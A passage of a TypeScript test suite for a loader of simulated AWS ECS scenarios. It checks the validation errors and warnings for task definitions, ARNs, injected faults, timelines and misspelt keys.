    expect(loadScenario(described).warnings).toEqual([
      'taskDefinitionArn is in us-east-1 and account 123456789012, but settings.cluster in eu-west-1 and account 999999999999: every ARN is built where the cluster is (give settings.region and settings.account to choose)',
    ]);
    expect(told.warnings).toEqual([
      "settings.cluster is in eu-west-1, but settings.region is us-west-2: every ARN is built in us-west-2 (leave settings.region out to run in the cluster's)",
      "settings.cluster is in account 999999999999, but settings.account is 123456789012: every ARN is built in 123456789012 (leave settings.account out to use the cluster's)",
    ]);
  });

  it('should run where describe-task-definition output was registered, and say so when the settings name another place', () => {
    const described = (settings: Record<string, string>) => ({ taskDefinition: { ...fargate(), taskDefinitionArn: 'arn:aws:ecs:eu-west-1:111122223333:task-definition/web:7' }, settings });
    const there = loadScenario(described({}));
    expect(there.settings).toMatchObject({ region: 'eu-west-1', account: '111122223333' });
    expect(there.warnings ?? []).toEqual([]);
    const moved = loadScenario(described({ region: 'us-west-2', account: '123456789012' }));
    // the settings win, the definition's own ARN too: not in silence
    expect(moved.settings).toMatchObject({ region: 'us-west-2', account: '123456789012' });
    expect(moved.warnings).toEqual([
      "taskDefinitionArn is in eu-west-1, but settings.region is us-west-2: every ARN is built in us-west-2, the task definition's too (leave settings.region out to run where it was registered)",
      "taskDefinitionArn is in account 111122223333, but settings.account is 123456789012: every ARN is built in 123456789012, the task definition's too (leave settings.account out to use its account)",
    ]);
    // a cluster ARN agreeing with the settings moves the definition all the same: said too
    const withCluster = loadScenario(described({ cluster: 'arn:aws:ecs:us-west-2:111122223333:cluster/prod', region: 'us-west-2' }));
    expect(withCluster.settings).toMatchObject({ region: 'us-west-2', account: '111122223333', cluster: 'prod' });
    expect(withCluster.warnings).toEqual([
      "taskDefinitionArn is in eu-west-1, but settings.region is us-west-2: every ARN is built in us-west-2, the task definition's too (leave settings.region out to run where it was registered)",
    ]);
  });

  it('should refuse names AWS refuses (they go into ARNs) and strategies RunTask refuses', () => {
    expect(rejection({ family: 'has space/slash', containerDefinitions: [{ name: 'a', image: 'a' }] }).message).toBe(
      'family: must be a name of up to 255 ASCII letters, numbers, hyphens and underscores, got "has space/slash"',
    );
    expect(rejection({ family: 'x'.repeat(256), containerDefinitions: [{ name: 'a', image: 'a' }] }).field).toBe('family');
    expect(rejection(withTd({ settings: { cluster: 'a b/c' } })).field).toBe('settings.cluster');
    // an ARN that is no cluster's is told what one looks like, not the name's rule
    expect(rejection(withTd({ settings: { cluster: 'arn:aws:ecs:nowhere' } })).message).toBe(
      'settings.cluster: must be a cluster name or its ARN, arn:aws:ecs:<region>:<12-digit account>:cluster/<name>, got "arn:aws:ecs:nowhere"',
    );
    expect(loadScenario(withTd({ settings: { cluster: 'arn:aws:ecs:eu-west-1:123456789012:cluster/prod' } })).settings.cluster).toBe('prod');
    const twice = [{ capacityProvider: 'FARGATE', weight: 1 }, { capacityProvider: 'FARGATE', weight: 2 }];
    expect(rejection(withTd({ capacityProviderStrategy: twice })).message).toBe('capacityProviderStrategy: names FARGATE twice; each capacity provider may appear once');
    const bases = [{ capacityProvider: 'FARGATE', base: 1 }, { capacityProvider: 'FARGATE_SPOT', base: 2 }];
    expect(rejection(withTd({ capacityProviderStrategy: bases })).message).toBe('capacityProviderStrategy: only one capacity provider may have a base, got FARGATE and FARGATE_SPOT');
  });

  it('should reject a ReleaseEni fault without awsvpc, or with a restore time that is not whole seconds ≥ 1', () => {
    const error = rejection({ containerDefinitions: [{ name: 'web', image: 'nginx', memory: 128 }], faults: [{ step: 'ReleaseEni' }] });
    expect(error.message).toBe('faults[0].step: ReleaseEni needs networkMode awsvpc, got bridge (no ENI to release)');
    for (const bad of [0, -5, 1.5, '600']) expect(rejection(withTd({ faults: [{ step: 'ReleaseEni', restoredAfterSeconds: bad }] })).field).toBe('faults[0].restoredAfterSeconds');
  });

  it('should reject RegisterTargets without a load balancer', () => {
    expect(rejection(withTd({ faults: [{ step: 'RegisterTargets' }] })).message).toBe(
      'faults[0].step: RegisterTargets needs at least one load balancer (loadBalancers is empty)',
    );
  });

  it('should reject a targetGroup index past the load balancers', () => {
    const error = rejection(withTd({ loadBalancers: [lb(), lb('web', 'api')], faults: [{ step: 'RegisterTargets', targetGroup: 2 }] }));
    expect(error.field).toBe('faults[0].targetGroup');
    expect(error.problem).toBe('no target group 2: loadBalancers has 2 (indexes 0 to 1)');
  });

  it('should reject RegisterInstance without a service registry', () => {
    expect(rejection(withTd({ faults: [{ step: 'RegisterInstance' }] })).message).toBe(
      'faults[0].step: RegisterInstance needs a service registry (serviceRegistries is empty)',
    );
  });

  it('should refuse a StopContainer fault on a container the definition does not have, naming its container field', () => {
    expect(rejection(withTd({ faults: [{ step: 'PullImage', container: 'web' }, { step: 'StopContainer', container: 'nope', ignoreSigterm: true }] })).message).toMatch(/^faults\[1\]\.container: no container named "nope" in the task definition/);
  });

  it('should take RunContainer on a container or an image, exactly one, with its range of afterSeconds and exitCode', () => {
    const faults = (f: object) => withTd({ faults: [{ step: 'RunContainer', ...f }] });
    expect(loadScenario(faults({ container: 'web' })).faults).toEqual([{ step: 'RunContainer', container: 'web', exitCode: 1, afterSeconds: 10 }]);
    expect(loadScenario(faults({ image: 'nginx:latest', exitCode: 0, afterSeconds: 60 })).faults).toEqual([{ step: 'RunContainer', container: null, image: 'nginx:latest', exitCode: 0, afterSeconds: 60 }]);
    expect(rejection(faults({})).message).toBe('faults[0].container: required: name a container, or give "image" to crash every container using that image');
    expect(rejection(faults({ container: 'web', image: 'nginx:latest' })).message).toBe('faults[0].image: give container or image, not both (container is "web")');
    expect(rejection(faults({ container: 'api' })).message).toMatch(/^faults\[0\]\.container: no container named "api"/);
    expect(rejection(faults({ container: 'web', afterSeconds: 0 })).message).toBe('faults[0].afterSeconds: must be an integer from 1 to 86400 seconds, got 0');
    expect(rejection(faults({ container: 'web', exitCode: 256 })).message).toBe('faults[0].exitCode: must be an integer from 0 to 255, got 256');
    // two on one container (by name, then by its image): the first applies, and the other is named
    expect(loadScenario(withTd({ faults: [{ step: 'RunContainer', container: 'web', afterSeconds: 30 }, { step: 'RunContainer', image: 'nginx:latest', exitCode: 2 }] })).warnings).toEqual([
      'faults[1] also crashes container web (image nginx:latest), which faults[0] crashes first: only that one applies to it.',
    ]);
    // a field of its own on another step is refused by name
    expect(rejection(withTd({ faults: [{ step: 'PullImage', container: 'web', afterSeconds: 5 }] })).message).toBe('faults[0].afterSeconds: PullImage takes no afterSeconds (RunContainer does); remove it');
  });

  it('should refuse a field of another action by name (a StopTask with a container would stop the whole task)', () => {
    const message = (a: object) => rejection(withTd({ timeline: [{ at: 100, ...a }] })).message;
    expect(message({ action: 'StopTask', container: 'web' })).toBe('timeline[0].container: StopTask takes no container (ContainerExit or HealthChecksFail do); remove it');
    expect(message({ action: 'ContainerExit', container: 'web', reason: 'OOMKilled' })).toBe('timeline[0].reason: ContainerExit takes no reason (StopTask does); remove it');
    expect(message({ action: 'SpotInterruption', exitCode: 0 })).toBe('timeline[0].exitCode: SpotInterruption takes no exitCode (ContainerExit does); remove it');
    // a step with no field of its own still refuses another's
    expect(rejection(withTd({ faults: [{ step: 'AttachEni', afterSeconds: 3 }] })).message).toBe('faults[0].afterSeconds: AttachEni takes no afterSeconds (RunContainer does); remove it');
  });

  it('should say where a missing field was given under another name (ECS calls it containerName)', () => {
    expect(rejection(withTd({ timeline: [{ at: 100, action: 'ContainerExit', containerName: 'web' }] })).message).toBe(
      'timeline[0].container: required: the name of a container in the task definition (found "containerName": the field is container)',
    );
    expect(rejection(withTd({ timeline: [{ time: 100, action: 'StopTask' }] })).message).toMatch(/^timeline\[0\]\.at: required: .* \(found "time": the field is at\)$/);
    expect(rejection(withTd({ timeline: [{ At: 100, action: 'StopTask' }] })).message).toMatch(/\(found "At": the field is at\)$/);
  });

  it('should reject StopContainer with ignoreSigterm false and no exitCode, or with both ignoreSigterm and exitCode, or 137 to exit with', () => {
    const message = (fault: object) => rejection(withTd({ faults: [{ step: 'StopContainer', container: 'web', ...fault }] })).message;
    expect(message({ ignoreSigterm: false })).toBe(
      'faults[0].ignoreSigterm: must be true or left out: this fault is a container that ignores SIGTERM (for one that exits on SIGTERM with a code of its own, give exitCode; for one that exits with 0, leave the fault out)',
    );
    expect(message({ ignoreSigterm: true, exitCode: 143 })).toBe(
      'faults[0].ignoreSigterm: must be left out with exitCode: a container that exits on SIGTERM with exit code 143 does not ignore it (one that ignores it is killed: 137)',
    );
    expect(message({ exitCode: 137 })).toBe(
      'faults[0].exitCode: must not be 137, the code of a container killed by SIGKILL: for one killed after its stopTimeout, leave exitCode out (it ignores SIGTERM)',
    );
    expect(message({ exitCode: 256 })).toMatch(/^faults\[0\]\.exitCode: must be/);
    expect(message({ exitCode: 143, ignoreSigterm: 'no' })).toMatch(/^faults\[0\]\.ignoreSigterm: must be true or false/);
  });

  it('should reject a health check command that does not start with CMD or CMD-SHELL, as the HealthCheck API reference requires', () => {
    const withCheck = (command: unknown) => ({ taskDefinition: { ...fargate(), containerDefinitions: [{ name: 'web', image: 'nginx', healthCheck: { command } }] } });
    const field = 'taskDefinition.containerDefinitions[0].healthCheck.command';
    // Docker's NONE turns a check off: read as a check here it passed, and a dependsOn HEALTHY on it was met
    expect(rejection(withCheck(['NONE']))).toMatchObject({ field });
    expect(rejection(withCheck(['NONE'])).message).toMatch(/must start with "CMD" .* or "CMD-SHELL" .*, got a list starting with "NONE"$/);
    expect(rejection(withCheck(['curl -f http://localhost/'])).message).toMatch(/got a list starting with "curl -f http:\/\/localhost\/"$/);
    expect(rejection(withCheck(['CMD'])).message).toMatch(/got CMD alone$/);
    for (const ok of [['CMD-SHELL', 'curl -f http://localhost/ || exit 1'], ['CMD', 'curl', '-f', 'http://localhost/']]) expect(() => loadScenario(withCheck(ok))).not.toThrow();
  });

  it('should reject a HealthCheck fault on a container without a healthCheck', () => {
    expect(rejection(withTd({ faults: [{ step: 'HealthCheck', container: 'sidecar' }] })).message).toBe(
      'faults[0].container: container "sidecar" has no healthCheck to fail',
    );
  });

  it('should reject a load balancer HealthCheck fault when there is no load balancer', () => {
    expect(rejection(withTd({ faults: [{ step: 'HealthCheck' }] })).field).toBe('faults[0].container');
  });

  it('should reject faults given as an object', () => {
    expect(rejection(withTd({ faults: { step: 'PullImage' } })).message).toBe('faults: must be an array, got an object');
  });
});

describe('several problems at once', () => {
  it('should list them in the file’s order on one line too, and say one more problem as one', () => {
    const oneLine = JSON.stringify({ seed: 'x', taskDefinition: { ...fargate(), containerDefinitions: [{ name: 'web', image: 'nginx', stopTimeout: -1, memory: 'lots' }] } });
    expect(textRejection(oneLine).lines()).toEqual([
      'seed: must be an integer from 0 to 4294967295, got "x"',
      expect.stringMatching(/^taskDefinition\.containerDefinitions\[0\]\.stopTimeout: /),
      expect.stringMatching(/^taskDefinition\.containerDefinitions\[0\]\.memory: /),
    ]);
    const thirteen = { taskDefinition: fargate(), timeline: Array.from({ length: 13 }, () => ({ at: -1, action: 'StopTask' })) };
    expect(rejection(thirteen).lines().at(-1)).toBe('… and 1 more problem');
    const many = { taskDefinition: fargate(), timeline: Array.from({ length: 1013 }, () => ({ at: -1, action: 'StopTask' })) };
    expect(rejection(many).lines().at(-1)).toBe('… and 1,001 more problems');
  });

  it('should name the problems of separate fields found once the types are right (a size, a stopTimeout, a container named in the timeline and in a fault) in one refusal', () => {
    const td = { ...fargate(), cpu: '250', containerDefinitions: [{ name: 'web', image: 'nginx', stopTimeout: 500 }] };
    const lines = rejection({ taskDefinition: td, timeline: [{ at: 5, action: 'ContainerExit', container: 'ghost' }], faults: [{ step: 'PullImage', container: 'phantom' }] }).lines();
    expect(lines).toEqual([
      expect.stringMatching(/^taskDefinition\.cpu: must be one of Fargate's sizes/),
      'taskDefinition.containerDefinitions[0].stopTimeout: must be from 2 to 120 seconds on Fargate, got 500',
      expect.stringMatching(/^timeline\[0\]\.container: no container named "ghost"/),
      expect.stringMatching(/^faults\[0\]\.container: no container named "phantom"/),
    ]);
  });

  it('should say a mistake once where others would echo it: one cause for several fields, a load balancer the later checks depend on', () => {
    const onDemand = { taskDefinition: fargate(), launchType: 'FARGATE', timeline: [5, 6, 7].map((at) => ({ at, action: 'SpotInterruption' })) };
    expect(rejection(onDemand).lines()).toEqual([expect.stringMatching(/^timeline\[0\]\.action: SpotInterruption is for Fargate Spot tasks, .*\(the same for timeline\[1\]\.action, timeline\[2\]\.action\)$/)]);
    // a load balancer naming no container: the health check fault about it waits, a revision's own mistakes do not
    const td = { ...fargate(), containerDefinitions: [{ name: 'web', image: 'nginx:latest', portMappings: [{ containerPort: 80 }] }] };
    const revision = { ...td, networkMode: 'bridge', requiresCompatibilities: undefined, containerDefinitions: [{ ...td.containerDefinitions[0]!, stopTimeout: 500 }] };
    const lines = rejection({
      taskDefinition: td,
      loadBalancers: [lb('webb')],
      service: { serviceName: 'web', desiredCount: 1 },
      timeline: [{ at: 300, action: 'UpdateService', taskDefinition: revision }],
      faults: [{ step: 'HealthCheck', image: 'nginx:latest' }],
    }).lines();
    expect(lines).toEqual([
      expect.stringMatching(/^loadBalancers\[0\]\.containerName: no container named "webb"/),
      expect.stringMatching(/^timeline\[0\]\.taskDefinition\.networkMode: the service's launch type FARGATE requires awsvpc, got bridge/),
      'timeline[0].taskDefinition.containerDefinitions[0].stopTimeout: must be from 2 to 120 seconds on Fargate, got 500',
    ]);
  });

  it('should say a misspelt key only where it was misspelt, not at every field of its name', () => {
    const td = fargate();
    const containers = [td.containerDefinitions[0], { ...td.containerDefinitions[1], dependsOn: [{ containerName: 7, condition: 'START' }] }];
    const lines = rejection({
      taskDefinition: { ...td, containerDefinitions: containers },
      loadBalancers: [{ targetGroupArn: TG_ARN, containerName: 5, containerPort: 80 }],
      timeline: [{ at: 10, action: 'ContainerExit', contianer: 'web' }, { at: 20, action: 'ContainerExit', container: 3 }],
    }).lines();
    expect(lines.filter((l) => l.includes('misspelling'))).toEqual(['timeline[0].container: required: the name of a container in the task definition (timeline[0].contianer is given: a misspelling of container?)']);
    expect(lines).toHaveLength(4);
  });

  it('should name every field given to an action that does not take it, at once, and hint a misspelling nowhere it does not belong', () => {
    const lines = rejection({
      taskDefinition: fargate(),
      timeline: [{ at: 5, action: 'StopTask', container: 'web' }, { at: 6, action: 'StopTask', container: 'web' }],
      faults: [{ step: 'PullImage', contianer: 'web' }],
    }).lines();
    // both StopTasks, not the first alone; the fault's misspelt key is no cause of a container given where none is taken
    expect(lines).toEqual([
      'timeline[0].container: StopTask takes no container (ContainerExit or HealthChecksFail do); remove it',
      'timeline[1].container: StopTask takes no container (ContainerExit or HealthChecksFail do); remove it',
    ]);
  });
});

describe('likely typos', () => {
  const td = { family: 'x', containerDefinitions: [{ name: 'a', image: 'a', memory: 128 }] };

  it('should read a revision given as describe-task-definition output as such, naming its real fields', () => {
    const raw = {
      taskDefinition: { family: 'w', networkMode: 'bridge', containerDefinitions: [{ name: 'w', image: 'w:1', memory: 256 }] },
      launchType: 'EC2',
      service: { serviceName: 'w' },
      timeline: [{ at: 60, action: 'UpdateService', taskDefinition: { taskDefinition: { family: 'w', networkMode: 'bridge', containerDefinitions: [{ name: 'w', image: 'w:2', memory: 256, esential: true }] } } }],
    };
    expect(loadScenario(raw).warnings).toEqual([
      'timeline[0].taskDefinition.taskDefinition.containerDefinitions[0].esential is not a field we know, so it is ignored: did you mean timeline[0].taskDefinition.taskDefinition.containerDefinitions[0].essential?',
    ]);
  });

  it('should warn of a known field with a unit or an ending added, of min and max written short, and of any key foreign to a small AWS shape', () => {
    const service = (deploymentConfiguration: Record<string, unknown>, lb: Record<string, unknown> = {}) =>
      loadScenario({
        taskDefinition: { ...td, networkMode: 'awsvpc', containerDefinitions: [{ name: 'a', image: 'a', memory: 128, stopTimeoutSeconds: 10, memoryReservationMiB: 64, portMappings: [{ containerPort: 80 }] }] },
        service: { serviceName: 'w', desiredCount: 2, deploymentConfiguration, loadBalancers: [{ targetGroupArn: 'arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/w/1', containerName: 'a', containerPort: 80, ...lb }] },
      }).warnings;
    // each would run the defaults (100/200, 30 s) in silence, and --strict would pass the file
    expect(service({ minimumHealthyPercentage: 100, maxPercent: 100 }, { healthCheckPath: '/' })).toEqual([
      "service.loadBalancers[0].healthCheckPath is not a field of AWS's LoadBalancer, so it is ignored (its fields are: targetGroupArn, containerName, containerPort, loadBalancerName, advancedConfiguration)",
      'service.deploymentConfiguration.minimumHealthyPercentage is not a field we know, so it is ignored: did you mean service.deploymentConfiguration.minimumHealthyPercent?',
      'service.deploymentConfiguration.maxPercent is not a field we know, so it is ignored: did you mean service.deploymentConfiguration.maximumPercent?',
      'taskDefinition.containerDefinitions[0].stopTimeoutSeconds is not a field we know, so it is ignored: did you mean taskDefinition.containerDefinitions[0].stopTimeout?',
      'taskDefinition.containerDefinitions[0].memoryReservationMiB is not a field we know, so it is ignored: did you mean taskDefinition.containerDefinitions[0].memoryReservation?',
    ]);
    expect(service({ rollbackOnFailure: true })).toContain(
      "service.deploymentConfiguration.rollbackOnFailure is not a field of AWS's DeploymentConfiguration, so it is ignored (its fields are: minimumHealthyPercent, maximumPercent, deploymentCircuitBreaker, strategy, alarms, bakeTimeInMinutes, lifecycleHooks, linearConfiguration, canaryConfiguration)",
    );
    // AWS's own fields pass, and a field of another shape is not a misspelt one (serviceName is no service + Name)
    expect(service({ minimumHealthyPercent: 50, bakeTimeInMinutes: 0 }, { advancedConfiguration: {} })!.filter((w) => w.startsWith('service.'))).toEqual([]);
    expect(misspelt('serviceName', ['service'])).toBeUndefined();
    expect(misspelt('stopTimeoutSecs', ['stopTimeout'])).toBe('stopTimeout');
    // a short max on the known side too (a container named maxWorker; --max-lifecycles)
    expect(misspelt('maxWorkr', ['maxWorker'])).toBe('maxWorker');
    expect(misspelt('maxLifecycles', ['max-lifecycles'])).toBe('max-lifecycles');
  });

  it('should not warn of a note key given twice (a JSONC file\'s comments kept as "//" keys, as the hint for comments advises)', () => {
    const notes = parseScenario('{"//": "the web tier", "//": "stopped at 10 min", "taskDefinition": {"family": "x", "_c": 1, "_c": 2, "containerDefinitions": [{"name": "a", "image": "a", "memory": 128}]}}');
    expect(notes.warnings).toBeUndefined();
    expect(parseScenario('{"seed": 1, "seed": 2, "taskDefinition": {"family": "x", "containerDefinitions": [{"name": "a", "image": "a", "memory": 128}]}}').warnings).toEqual([
      'seed is given twice in one object (at line 1, column 2, and again at line 1, column 13): only the last one counts, the first is ignored',
    ]);
  });

  it("should list warnings in the file's order, as errors are, and keep the first 20 of the file when it cuts", () => {
    // the checks find the load balancer's stray key before the top-level deploymentConfiguration, and the
    // repeated fault before both; a person reading the file top down expects them from line 2 on
    const lines = [
      '{',
      '  "faults": [{ "step": "AttachEni" }, { "step": "AttachEni" }],',
      '  "deploymentConfiguration": { "maximumPercent": 200 },',
      `  "taskDefinition": ${JSON.stringify(fargate())},`,
      `  "loadBalancers": [{ "targetGroupArn": "${TG_ARN}", "containerName": "web", "containerPort": 80, "extra": 1 }],`,
      `  "settings": { ${Array.from({ length: 25 }, (_, i) => `"unknown${i}": ${i}`).join(',\n')} }`,
      '}',
    ];
    const warnings = parseScenario(lines.join('\n')).warnings!;
    expect(warnings.slice(0, 4).map((w) => /^\S+ \(line (\d+)\)/.exec(w)?.slice(0, 2))).toEqual([
      ['faults[1] (line 2)', '2'],
      ['deploymentConfiguration (line 3)', '3'],
      ['loadBalancers[0].extra (line 5)', '5'],
      ['settings.unknown0 (line 6)', '6'],
    ]);
    // 28 in all: the cut keeps the file's first 20 and counts the rest
    expect(warnings).toHaveLength(21);
    expect(warnings[19]).toMatch(/^settings\.unknown16 \(line 22\)/);
    expect(warnings.at(-1)).toBe('… and 8 more warnings');
  });

  it('should say where it stopped looking, first, when a generated file repeats a slip thousands of times', () => {
    // 5,000 keys given twice: the first 100 are named, and the first warning says the rest was not searched
    const twice = `{"taskDefinition": {"family": "x", ${Array.from({ length: 5000 }, (_, i) => `"k${i}": 1, "k${i}": 2, `).join('')}"containerDefinitions": [{"name": "a", "image": "a", "memory": 128}]}}`;
    const dup = parseScenario(twice).warnings!;
    expect(dup[0]).toBe('keys given twice: the first 100 are listed, and the rest of the file was not searched for more');
    expect(dup.at(-1)).toBe('… and 82 more warnings');
    // one key 5,000 times: one warning, its first places, a count and its last
    const again = parseScenario(`{"taskDefinition": {"family": "x", ${'"cpu": "256", '.repeat(5000)}"containerDefinitions": [{"name": "a", "image": "a", "memory": 128}]}}`).warnings!;
    expect(again).toEqual([
      'taskDefinition.cpu is given 5,000 times in one object (at line 1, column 36; line 1, column 50; line 1, column 64; 4,996 more; and last at line 1, column 70022): only the last one counts, the others are ignored',
    ]);
    expect(parseScenario('{\n"seed": 1,\n"seed": 2,\n"seed": 3,\n"taskDefinition": {"family": "x", "containerDefinitions": [{"name": "a", "image": "a", "memory": 128}]}}').warnings).toEqual([
      'seed is given 3 times in one object (at line 2, column 1; line 3, column 1; and last at line 4, column 1): only the last one counts, the others are ignored',
    ]);
    // 3,000 settings we do not know: the first 1,000 are named
    const settings = Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`k${i}`, i]));
    const unknown = loadScenario({ taskDefinition: { family: 'x', containerDefinitions: [{ name: 'a', image: 'a', memory: 128 }] }, settings }).warnings!;
    expect(unknown[0]).toBe('settings has more than 1,000 keys we do not know: only the first 1,000 were looked at');
  });

  it('should run, but name a misspelt top-level or settings key and the one meant', () => {
    const s = loadScenario({ taskDefinition: td, lanchType: 'EC2', settings: { deregistrationDelay: 5 } });
    expect(s.warnings).toEqual([
      'lanchType is not a field we know, so it is ignored: did you mean launchType?',
      'settings.deregistrationDelay is not a field we know, so it is ignored: did you mean settings.deregistrationDelaySeconds?',
    ]);
  });

  it('should say that a target group or Spot setting changes nothing where there is no target group or no Spot', () => {
    const settings = { deregistrationDelaySeconds: 30, healthyThresholdCount: 3, spotStopCode: 'TerminationNotice' };
    expect(loadScenario({ taskDefinition: fargate(), launchType: 'FARGATE', settings }).warnings).toEqual([
      'settings.deregistrationDelaySeconds changes nothing: the task has no target group (loadBalancers is empty)',
      'settings.healthyThresholdCount changes nothing: the task has no target group (loadBalancers is empty)',
      'settings.spotStopCode changes nothing: the task does not run on Fargate Spot (launch type FARGATE)',
    ]);
    // with a target group, on Spot, or with no launch type given (the cluster's default strategy may be Spot), they act
    expect(loadScenario({ taskDefinition: fargate(), loadBalancers: [lb()], capacityProviderStrategy: [{ capacityProvider: 'FARGATE_SPOT', weight: 1 }], settings }).warnings).toBeUndefined();
    expect(loadScenario({ taskDefinition: fargate(), settings: { spotStopCode: 'TerminationNotice' } }).warnings).toBeUndefined();
  });

  it('should say that a service grace period changes nothing when no health check is there to wait for', () => {
    const service = { serviceName: 'web', healthCheckGracePeriodSeconds: 120 };
    // (the helper's essential container has a healthCheck: not this one; the sidecar's checks would not count)
    const unchecked = fargate();
    delete (unchecked.containerDefinitions[0] as Record<string, unknown>).healthCheck;
    (unchecked.containerDefinitions[1] as Record<string, unknown>).healthCheck = { command: ['CMD-SHELL', 'true'] };
    expect(loadScenario({ taskDefinition: unchecked, service }).warnings).toEqual([
      'service.healthCheckGracePeriodSeconds changes nothing: the service has no health check to wait for (no load balancer, and no essential container with a healthCheck)',
    ]);
    // a target group's checks, or an essential container's own, are waited for
    expect(loadScenario({ taskDefinition: unchecked, service: { ...service, loadBalancers: [lb()] } }).warnings).toBeUndefined();
    expect(loadScenario({ taskDefinition: fargate(), service }).warnings).toBeUndefined();
  });

  it('should name the misspelt key in a refusal that the misspelling caused, which no warning could say', () => {
    const containers = [{ name: 'web', image: 'nginx', memory: 128 }];
    expect(rejection({ taskDefinition: { family: 'web', containerDefinitons: containers } }).message).toBe(
      'taskDefinition.containerDefinitions: at least one container is required (taskDefinition.containerDefinitons is given: a misspelling of containerDefinitions?)',
    );
    expect(rejection({ taskDefinition: { family: 'web', containerDefinitions: containers }, timeline: [{ at: 60, action: 'ContainerExit', contianer: 'web' }] }).message).toBe(
      'timeline[0].container: required: the name of a container in the task definition (timeline[0].contianer is given: a misspelling of container?)',
    );
    // named in the problem rather than the field: a load balancer's port the container does not map
    expect(rejection(withTd({ taskDefinition: { ...fargate(), containerDefinitions: [{ name: 'web', image: 'nginx', portMapings: [{ containerPort: 80 }] }] }, loadBalancers: [lb('web')] })).message).toMatch(
      /\(taskDefinition\.containerDefinitions\[0\]\.portMapings is given: a misspelling of portMappings\?\)$/,
    );
    // a refusal the misspelling has nothing to do with says nothing of it
    expect(rejection({ taskDefinition: { famly: 'web', containerDefinitions: containers }, timeline: [{ at: -1, action: 'StopTask' }] }).message).not.toContain('misspelling');
    // one the misspelling caused, whatever the field: networkMode left out is the EC2 default
    expect(rejection({ taskDefinition: { family: 'web', containerDefinitions: containers, netwrkMode: 'awsvpc' }, launchType: 'FARGATE' }).message).toMatch(/\(taskDefinition\.netwrkMode is given: a misspelling of networkMode\?\)$/);
  });

  it('should name a misspelt scenario key at the top of a bare task definition too, where scenario keys run', () => {
    const bare = { ...td, lanchType: 'EC2', pidMode: 'task', timeline: [{ at: 5, action: 'StopTask', reasn: 'deploy' }] };
    expect(loadScenario(bare).warnings).toEqual([
      'lanchType is not a field we know, so it is ignored: did you mean launchType?',
      'timeline[0].reasn is not a field we know, so it is ignored: did you mean timeline[0].reason?',
    ]);
    // its own fields and the scenario's stay quiet, and a typo of a definition field is named once
    expect(loadScenario({ ...td, launchType: 'EC2', seed: 3, tags: [] }).warnings).toBeUndefined();
    expect(loadScenario({ ...td, famly: 'x' }).warnings?.filter((w) => w.startsWith('famly'))).toEqual([expect.stringMatching(/^famly is not a field we know, so it is ignored/)]);
  });

  it('should name any unknown key of our own objects (settings, actions, faults), but not a note such as "_comment"', () => {
    const s = loadScenario({
      taskDefinition: td,
      settings: { drainSeconds: 5, _comment: 'kept', '//': 'kept', $schema: 'kept' },
      timeline: [{ at: 5, action: 'StopTask', why: 'deploy' }],
      faults: [{ step: 'PullImage', container: 'a', probability: 0.5 }],
    });
    expect(s.warnings).toEqual([
      'settings.drainSeconds is not a setting we know, so it is ignored (the settings are: deregistrationDelaySeconds, healthCheckIntervalSeconds, healthyThresholdCount, unhealthyThresholdCount, region, account, cluster, spotStopCode)',
      expect.stringMatching(/^timeline\[0\]\.why is not a field any action takes, so it is ignored \(the fields are: at, action, reason, /),
      expect.stringMatching(/^faults\[0\]\.probability is not a field any fault takes, so it is ignored \(the fields are: step, container, /),
    ]);
    // AWS's shapes carry many fields we do not model: those stay quiet
    expect(loadScenario({ taskDefinition: { ...td, tags: [], cpu: '256', pidMode: 'task' } }).warnings).toBeUndefined();
  });

  it('should name a misspelt key of a service, but not the CreateService fields we do not model (its cluster would change the ARNs: said)', () => {
    const s = loadScenario({
      taskDefinition: td,
      service: { serviceName: 'web', healthCheckGracePeriod: 30, deploymentConfiguration: { maximumPercnt: 150 }, cluster: 'prod', networkConfiguration: {}, platformVersion: 'LATEST' },
    });
    expect(s.warnings).toEqual([
      'service.healthCheckGracePeriod is not a field we know, so it is ignored: did you mean service.healthCheckGracePeriodSeconds?',
      'service.cluster is ignored: the cluster is named in "settings": { "cluster": … }',
      'service.deploymentConfiguration.maximumPercnt is not a field we know, so it is ignored: did you mean service.deploymentConfiguration.maximumPercent?',
    ]);
    // a deploymentConfiguration's field one level too high: the breaker a test relies on would stay off
    const breaker = { enable: true, rollback: true };
    expect(loadScenario({ taskDefinition: td, service: { serviceName: 'web', deploymentCircuitBreaker: breaker } }).warnings).toEqual([
      'service.deploymentCircuitBreaker is ignored: it belongs in service.deploymentConfiguration, so write "deploymentConfiguration": { "deploymentCircuitBreaker": … }',
    ]);
  });

  it('should name a misspelt key of a load balancer or a Cloud Map registry, at the top level and in a service, where it would be left out in silence', () => {
    const SRV = 'arn:aws:servicediscovery:us-east-1:123456789012:service/srv-1';
    const s = loadScenario(withTd({ loadBalancers: [{ ...lb(), containerport: 80 }], serviceRegistries: [{ registryArn: SRV, Port: 8080 }] }));
    expect(s.warnings).toEqual([
      'loadBalancers[0].containerport is not a field we know, so it is ignored (loadBalancers[0].containerPort, which it is close to, is given beside it)',
      'serviceRegistries[0].Port is not a field we know, so it is ignored: did you mean serviceRegistries[0].port?',
    ]);
    const inService = loadScenario(withTd({ service: { serviceName: 'web', serviceRegistries: [{ registryArn: SRV, Port: 8080 }] } }));
    expect(inService.warnings).toEqual(['service.serviceRegistries[0].Port is not a field we know, so it is ignored: did you mean service.serviceRegistries[0].port?']);
    // a refusal that a misspelling caused names it
    expect(rejection(withTd({ serviceRegistries: [{ registryArn: SRV, containername: 'web', containerPort: 80 }] })).message).toBe(
      'serviceRegistries[0].containerName: required with containerPort: they name a container and the port it maps, together (serviceRegistries[0].containername is given: a misspelling of containerName?)',
    );
  });

  it('should name a misspelt key in a timeline or fault entry', () => {
    const s = loadScenario({ taskDefinition: td, timeline: [{ at: 5, action: 'StopTask', resaon: 'typo' }], faults: [{ step: 'PullImage', container: 'a', imagee: 'x' }] });
    expect(s.warnings).toEqual([
      'timeline[0].resaon is not a field we know, so it is ignored: did you mean timeline[0].reason?',
      'faults[0].imagee is not a field we know, so it is ignored: did you mean faults[0].image?',
    ]);
  });

  it('should note a fault given twice, the copy named, and run as with one', () => {
    const s = loadScenario({ taskDefinition: td, faults: [{ step: 'PullImage', container: 'a' }, { step: 'StopContainer', container: 'a', ignoreSigterm: true }, { step: 'PullImage', container: 'a' }] });
    expect(s.warnings).toEqual(['faults[2] repeats faults[0]: a fault applies once, so the copy changes nothing.']);
    // hundreds of copies: one warning, not one per copy
    const many = loadScenario({ taskDefinition: td, faults: Array.from({ length: 200 }, () => ({ step: 'PullImage', container: 'a' })) });
